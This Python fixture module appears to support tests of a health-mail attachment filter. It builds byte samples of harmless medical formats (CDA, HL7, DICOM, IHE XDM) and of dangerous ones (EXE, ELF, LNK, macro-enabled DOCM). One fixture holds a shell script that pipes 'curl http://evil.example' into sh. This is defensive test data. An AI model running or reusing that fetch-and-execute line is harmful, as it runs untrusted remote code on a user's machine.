"""Attachments as bytes: the harmless ones health mail carries, and dangerous ones."""

from __future__ import annotations

import io
import struct
import zipfile


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 240


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 100


def lnk() -> bytes:
    return b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00F" + b"\x00" * 60


def script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example | sh\n"


def pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"


def cda() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Compte rendu</title>'
        b"</ClinicalDocument>\n"
    )


def hl7() -> bytes:
    return b"MSH|^~\\&|DPI|CH|LAB|CHU|202611231000||ORU^R01|1|P|2.5\rPID|1||123\r"


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\x00" * 17


def dicom() -> bytes:
    return b"\x00" * 128 + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00"


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ihe_xdm() -> bytes:
    """The layout of an IHE XDM package (IHE ITI TF-1 §16), as DPIs send it."""
    return zip_of(
        {
            "INDEX.HTM": b"<html><body>Index</body></html>",
            "README.TXT": b"IHE XDM package\r\n",
            "METADATA.XML": b'<?xml version="1.0"?><SubmitObjectsRequest/>',
            "IHE_XDM/SUBSET01/METADATA.XML": b'<?xml version="1.0"?><SubmitObjectsRequest/>',
            "IHE_XDM/SUBSET01/DOC0001.XML": cda(),
            "IHE_XDM/SUBSET01/DOC0002.PDF": pdf(),
        }
    )


def docx() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        }
    )


def docm() -> bytes:
    """A macro-enabled Word file (its VBA project inside), whatever it is named."""
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 50,
        }
    )
